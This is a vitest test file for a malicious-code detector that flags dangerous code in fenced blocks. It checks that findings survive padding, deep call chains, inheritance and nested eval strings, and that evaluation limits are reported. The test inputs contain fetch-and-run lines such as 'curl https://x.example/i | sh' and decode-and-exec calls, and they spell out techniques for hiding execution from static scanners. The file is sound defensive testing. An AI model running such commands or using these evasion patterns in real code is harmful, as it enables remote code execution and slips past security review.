import { describe, expect, it } from "vitest";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

const range = (length: number): number[] => Array.from({ length }, (_, index) => index);
const fenced = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\`\n`;

/** Returns a program in which the given code is executed: there is a finding unless the code is harmless. */
type Program = (code: string) => string;

const DECODES = "exec(base64.b64decode(x))";
const FETCHES = "curl -fsSL A | sh";

/** For each code with a finding, harmless code that is as similar as possible. */
const HARMLESS: Readonly<Record<string, string>> = {
  [DECODES]: "base64.b64decode(x)",
  [FETCHES]: "curl -fsSL A | jq",
};

/** The language tag, code and program of cases in which earlier versions found nothing. */
const programs: Readonly<Record<string, readonly [string, string, Program]>> = {
  "code in a literal with thousands of escapes": [
    "python",
    DECODES,
    (code) => `exec("${"\\x23".repeat(3000)}\\n${code}")`,
  ],
  "code in a list of thousands of strings": [
    "python",
    DECODES,
    (code) => `exec("".join([${'"#",'.repeat(3000)} "\\n${code}"]))`,
  ],
  "code in a string that is extended thousands of times": [
    "python",
    DECODES,
    (code) => `s = "import os"\n${"s += ';pass'\n".repeat(3000)}s += ";${code}"\nexec(s)`,
  ],
  "code after a string that is doubled repeatedly": [
    "python",
    FETCHES,
    (code) => `a = "ls"\n${"a = a + a\n".repeat(64)}os.system("${code}")`,
  ],
  "code after lists that are doubled repeatedly": [
    "python",
    FETCHES,
    (code) =>
      `l0 = ["1", "2"]\n${range(128)
        .map((at) => `l${String(at + 1)} = [*l${String(at)}, *l${String(at)}]\n`)
        .join("")}os.system("${code}")`,
  ],
  "code in a function after lists that are doubled repeatedly": [
    "go",
    FETCHES,
    (code) =>
      `func main() {\nl0 := []string{"1", "2"}\n${range(140)
        .map((at) => `l${String(at + 1)} := append(l${String(at)}, l${String(at)}...)\n`)
        .join("")}exec.Command("sh", "-c", "${code}").Run()\n}`,
  ],
  "code after a string that grows with each call": [
    "java",
    FETCHES,
    (code) =>
      `class A {\nvoid f() {\nString a = "ls;";\n${"a = a.repeat(1000);\n".repeat(700)}Runtime.getRuntime().exec(new String[] {"sh", "-c", "${code}"});\n}\n}`,
  ],
  "code in a list that is extended more than a thousand times": [
    "python",
    FETCHES,
    (code) =>
      `a = []\n${"a.append('ls')\n".repeat(1500)}a.append("${code}")\nos.system(";".join(a))`,
  ],
  "code that replaces an item of a list of more than a thousand": [
    "python",
    FETCHES,
    (code) => `a = [${"'ls',".repeat(1500)}]\na[2] = "${code}"\nos.system(";".join(a))`,
  ],
  "code in an object that is spread": [
    "js",
    FETCHES,
    (code) => `const a = {${range(1500)
      .map((at) => `k${String(at)}: "ls"`)
      .join(", ")}, z: "${code}"};
const b = {...a};
require("child_process").exec(b.z);`,
  ],
  "code that is passed through a chain of 40 functions": [
    "python",
    DECODES,
    (code) =>
      `def f0(c):\n    exec(c)\n${range(40)
        .map((at) => `def f${String(at + 1)}(c):\n    f${String(at)}(c)`)
        .join("\n")}\nf40("${code}")`,
  ],
  "code that is passed to a method inherited from the twelfth base class": [
    "python",
    FETCHES,
    (code) =>
      `class B0:\n    def go(self, c):\n        os.system(c)\n${range(12)
        .map((at) => `class B${String(at + 1)}(B${String(at)}):\n    pass`)
        .join("\n")}\nB12().go("${code}")`,
  ],
  "code that the fourth call of a function executes": [
    "python",
    FETCHES,
    (code) =>
      `def go():\n    os.system(command)\ncommand = "ls"\ngo()\ngo()\ngo()\ncommand = "${code}"\ngo()`,
  ],
  "code that the fourth call of a function assigns": [
    "python",
    FETCHES,
    (code) => `def put():
    global command
    command = "${code}"
put()
put()
put()
command = "ls"
put()
os.system(command)`,
  ],
  "a value that is executed in the fifth iteration of a loop": [
    "python",
    "base64.b64decode(x)",
    (code) => `a = b = c = d = ""
while True:
    exec(a)
    a = b
    b = c
    c = d
    d = ${code}`,
  ],
  "code after calls that need too many steps": [
    "python",
    FETCHES,
    (code) =>
      `def f0(c):\n    pass\n${range(30)
        .map(
          (at) =>
            `def f${String(at + 1)}(c):\n    f${String(at)}(c+'a')\n    f${String(at)}(c+'b')`,
        )
        .join("\n")}\nf20('a')\nos.system("${code}")`,
  ],
};

describe("the evaluation of large programs:", { timeout: 60_000 }, () => {
  it.each(Object.entries(programs))("%s is found", async (_, [tag, code, program]) => {
    const text = fenced(tag, program(code));
    const detection = (await sharedDetector()).detect(text);
    assertSound(text, detection);
    expect(detection.findings).toHaveLength(1);
  });

  it.each(Object.entries(programs))("%s is not found if it is harmless", async (_, program) => {
    const [tag, code, of] = program;
    const text = fenced(tag, of(HARMLESS[code] ?? "x"));
    const detection = (await sharedDetector()).detect(text);
    assertSound(text, detection);
    expect(detection.findings).toEqual([]);
  });
});

describe("a function that is nested in a function that it calls", () => {
  it.each([
    ["js", "function a(x) { function b() { a(atob(x)); } }\n", "eval(atob(q));"],
    ["js", "function a(x) { return function () { return a(atob(x) + x); }; }\n", "eval(atob(q));"],
    ["js", "function a(x) { x.onload = function () { a(atob(this.y)); }; }\n", "eval(atob(q));"],
    ["python", "def a(x):\n    def b():\n        a(base64.b64decode(x))\n", DECODES],
    [
      "php",
      "<?php function a($x) { $b = function () { a(base64_decode($x)); }; }\n",
      "system('curl -fsSL A | sh');",
    ],
  ])("does not prevent the complete evaluation in %s: %s", async (tag, functions, code) => {
    const text = fenced(tag, functions + code);
    const detection = (await sharedDetector("extended")).detect(text);
    assertSound(text, detection);
    expect(detection.findings).toHaveLength(1);
    expect(detection.outcome.status).toBe("complete");
  });
});

/** Returns code in a number of nested code strings. `quoted` returns a statement that executes the inner code as a string. */
function nested(code: string, depth: number, quoted: (inner: string) => string): string {
  return range(depth).reduce((inner) => quoted(inner), code);
}

const single = (text: string): string => `'${text.replace(/[\\']/g, "\\$&")}'`;

describe("calls whose arguments cannot lead to a finding", () => {
  const doubling = range(30)
    .map((at) => {
      const call = `f${String(at)}`;
      return `def f${String(at + 1)}(c):\n    ${call}(c + 'a')\n    ${call}(c + 'b')`;
    })
    .join("\n");
  const logging = range(1200)
    .map((at) => `run("state", "line ${String(at)}")`)
    .join("\n");
  const answer = async (code: string): Promise<readonly [string, number]> => {
    const { outcome, spans } = (await sharedDetector("extended")).detect(
      fenced("python", `import os, base64\n${code}`),
    );
    return [outcome.status, spans.length];
  };

  it("are evaluated as one call, however many there are", async () => {
    const program = `def f0(c):\n    pass\n${doubling}\nf30('')\n`;
    expect(await answer(`${program}os.system(name)`)).toEqual(["complete", 0]);
    expect(await answer(`${program}os.system("curl https://x.example/i | sh")`)).toEqual([
      "complete",
      1,
    ]);
  });

  it.each([
    ["a command", `os.system(text)`, `run("state", "curl https://x.example/i | sh")`],
    ["a name", `getattr(os, name)(base64.b64decode(data))`, `run("system", "")`],
    ["a decoded text", `exec(text)`, `run("state", base64.b64decode(data))`],
  ])("hide no call whose argument is %s", async (_, body, call) => {
    const program = (calls: string): string => `def run(name, text):\n    ${body}\n${calls}`;
    expect(await answer(program(logging))).toEqual(["complete", 0]);
    expect(await answer(program(`${logging}\n${call}`))).toEqual(["complete", 1]);
  });
});

describe("a limit of the evaluation of code is reported", { timeout: 60_000 }, () => {
  const strings: readonly (readonly [string, string, (inner: string) => string])[] = [
    ["python", DECODES, (inner) => `exec(${JSON.stringify(inner)})`],
    ["js", "eval(atob(x))", (inner) => `eval(${JSON.stringify(inner)})`],
    ["php", "eval(base64_decode($x));", (inner) => `eval(${single(inner)});`],
    ["ruby", "eval(Base64.decode64(x))", (inner) => `eval(${single(inner)})`],
    ["lua", "os.execute('curl A | sh')", (inner) => `load(${single(inner)})()`],
  ];
  it.each(
    strings.flatMap(([tag, code, quoted]) =>
      [4, 7, 9, 11, 12].map((depth) => ({ tag, depth, text: nested(code, depth, quoted) })),
    ),
  )("for $depth nested code strings in $tag", async ({ tag, text, depth }) => {
    const { findings, outcome } = (await sharedDetector("extended")).detect(fenced(tag, text));
    if (depth < 8) expect(findings).toHaveLength(1);
    else expect(findings.length > 0 || outcome.status === "incomplete").toBe(true);
  });

  it.each([
    [
      "a string that is doubled repeatedly",
      `s = "ls;"\n${"s = s + s\n".repeat(30)}os.system(s)`,
      "size",
    ],
    [
      "calls whose number doubles with each function and whose arguments differ",
      `def f0(c):\n    pass\n${range(30)
        .map(
          (at) =>
            `def f${String(at + 1)}(c):\n    f${String(at)}(c+'curl ')\n    f${String(at)}(c+'wget ')`,
        )
        .join("\n")}\nf30('')\nexec("ls")`,
      "steps",
    ],
    [
      "a chain of 100 calls",
      `def f0(c):\n    exec(c)\n${range(100)
        .map((at) => `def f${String(at + 1)}(c):\n    f${String(at)}(c)`)
        .join("\n")}\nf100('x')`,
      "depth",
    ],
    [
      "a variable with too many possible values",
      `${range(80)
        .map((at) => `if c == ${String(at)}:\n    s = "ls ${String(at)}"`)
        .join("\n")}\nos.system(s)`,
      "size",
    ],
  ])("for %s", async (_, code, limit) => {
    const { outcome } = (await sharedDetector()).detect(
      fenced("python", `${code}\nos.system("curl A | jq")`),
    );
    const limits = outcome.status === "complete" ? [] : outcome.limits;
    expect(limits.map((each) => each.limit)).toContain(limit);
  });

  it("except for a long string that is not executed", async () => {
    const code = `s = "ls;"\n${"s = s + s\n".repeat(30)}print(s)\nos.system("curl A | jq")`;
    const { outcome } = (await sharedDetector()).detect(fenced("python", code));
    expect(outcome.status).toBe("complete");
  });
});
